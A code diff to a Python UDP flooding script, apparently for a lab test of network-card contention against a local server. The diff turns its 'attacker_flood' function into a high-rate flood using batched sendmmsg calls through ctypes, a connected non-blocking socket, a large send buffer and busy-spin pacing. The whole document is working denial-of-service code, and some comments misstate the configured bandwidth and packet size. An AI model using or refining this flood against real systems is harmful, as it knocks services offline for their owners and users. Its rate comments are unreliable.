@@ -1,5 +1,7 @@
+import ctypes
+import errno
+import os
 import socket
-import random
 import time
 
 TARGET_IP = "10.247.52.4"  # Change to the local machine running UDP server
@@ -8,35 +10,128 @@ TARGET_PORT = 8080  # Matches the UDP server
 PACKET_SIZE = 512  # Each packet is 1024 bytes
 BANDWIDTH_LIMIT = 20_000_000_000  # 1 Gbps in bits
 PACKETS_PER_SECOND = BANDWIDTH_LIMIT // (PACKET_SIZE * 8)  # Compute allowed packets/sec
-INTERVAL = 1 / PACKETS_PER_SECOND  # Time delay per packet (in seconds)
+INTERVAL_NS = 10**9 // PACKETS_PER_SECOND  # Inter-packet spacing in nanoseconds
+
+# Packets submitted per sendmmsg(2) call. One kernel entry covers the whole
+# batch, so the per-packet syscall cost is amortized BATCH_SIZE ways.
+BATCH_SIZE = 256
+
+_libc = ctypes.CDLL(None, use_errno=True)
+try:
+    _sendmmsg = _libc.sendmmsg
+except AttributeError:
+    _sendmmsg = None  # non-Linux libc; fall back to per-packet sendto
+
+
+class _iovec(ctypes.Structure):
+    _fields_ = [
+        ("iov_base", ctypes.c_void_p),
+        ("iov_len", ctypes.c_size_t),
+    ]
+
+
+class _msghdr(ctypes.Structure):
+    _fields_ = [
+        ("msg_name", ctypes.c_void_p),
+        ("msg_namelen", ctypes.c_uint32),
+        ("msg_iov", ctypes.POINTER(_iovec)),
+        ("msg_iovlen", ctypes.c_size_t),
+        ("msg_control", ctypes.c_void_p),
+        ("msg_controllen", ctypes.c_size_t),
+        ("msg_flags", ctypes.c_int),
+    ]
+
+
+class _mmsghdr(ctypes.Structure):
+    _fields_ = [
+        ("msg_hdr", _msghdr),
+        ("msg_len", ctypes.c_uint),
+    ]
+
+
+def _build_mmsg_batch(payload: bytes, n: int):
+    """
+    Build an mmsghdr vector of n entries, all pointing at the same payload
+    buffer. The destination comes from the connected socket (msg_name stays
+    NULL), so the kernel skips the per-message address lookup. Returns
+    (msgs, refs) where refs keeps the underlying ctypes objects alive for
+    the lifetime of msgs.
+    """
+    buf = ctypes.create_string_buffer(payload, len(payload))
+    iov = _iovec(ctypes.cast(buf, ctypes.c_void_p), len(payload))
+
+    msgs = (_mmsghdr * n)()
+    for i in range(n):
+        msgs[i].msg_hdr.msg_iov = ctypes.pointer(iov)
+        msgs[i].msg_hdr.msg_iovlen = 1
+
+    return msgs, (buf, iov)
+
 
 def attacker_flood(duration=60):
     """
     Generates controlled UDP traffic to enforce 1 Gbps NIC contention.
-    
+
+    Packets are submitted in sendmmsg(2) batches so the Python/syscall
+    overhead is paid once per BATCH_SIZE packets. Pacing runs against a
+    monotonic_ns schedule: coarse gaps are slept off, but the last
+    millisecond before each batch's deadline is busy-spun, since
+    time.sleep resolution (~1 ms on Linux) is far coarser than the
+    sub-microsecond inter-packet spacing the bandwidth limit implies.
+
     :param duration: Attack duration in seconds.
     """
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    payload = random._urandom(PACKET_SIZE)  # Generate random bytes
+    # Connecting a UDP socket caches the route entry in the kernel once
+    # instead of re-resolving it per packet; the enlarged send buffer
+    # absorbs whole bursts, and non-blocking sends spin briefly on EAGAIN
+    # instead of stalling the pacing schedule.
+    sock.connect((TARGET_IP, TARGET_PORT))
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 16 * 1024 * 1024)
+    sock.setblocking(False)
+    payload = os.urandom(PACKET_SIZE)  # Generate random bytes
 
-    end_time = time.time() + duration
+    msgs, _refs = _build_mmsg_batch(payload, BATCH_SIZE)
+
+    batch_interval_ns = BATCH_SIZE * INTERVAL_NS
+    next_send_ns = time.monotonic_ns()
+    end_ns = next_send_ns + duration * 10**9
     packet_count = 0
+    next_report = 100_000
 
-    while time.time() < end_time:
-        start = time.time()
-        sock.sendto(payload, (TARGET_IP, TARGET_PORT))
-        packet_count += 1
+    while time.monotonic_ns() < end_ns:
+        # Sleep off everything but the last millisecond, then spin to the
+        # exact deadline for deterministic inter-batch spacing.
+        gap_ns = next_send_ns - time.monotonic_ns()
+        if gap_ns > 1_000_000:
+            time.sleep((gap_ns - 1_000_000) / 1e9)
+        while time.monotonic_ns() < next_send_ns:
+            pass
 
-        # Sleep to maintain bandwidth control
-        elapsed = time.time() - start
-        sleep_time = max(0, INTERVAL - elapsed)
-        time.sleep(sleep_time)
+        if _sendmmsg is not None:
+            sent = _sendmmsg(sock.fileno(), msgs, BATCH_SIZE, 0)
+            if sent < 0:
+                err = ctypes.get_errno()
+                if err in (errno.EINTR, errno.EAGAIN):
+                    continue
+                raise OSError(err, os.strerror(err))
+        else:
+            for _ in range(BATCH_SIZE):
+                while True:
+                    try:
+                        sock.send(payload)
+                        break
+                    except BlockingIOError:
+                        pass  # send buffer full; spin until writable
+            sent = BATCH_SIZE
+        packet_count += sent
+        next_send_ns += batch_interval_ns
 
-        if packet_count % 1000 == 0:
+        if packet_count >= next_report:
             print(f"Sent {packet_count} packets at 1 Gbps")
+            next_report += 100_000
 
     print("Attacker finished.")
 
 if __name__ == "__main__":
     attacker_flood()
-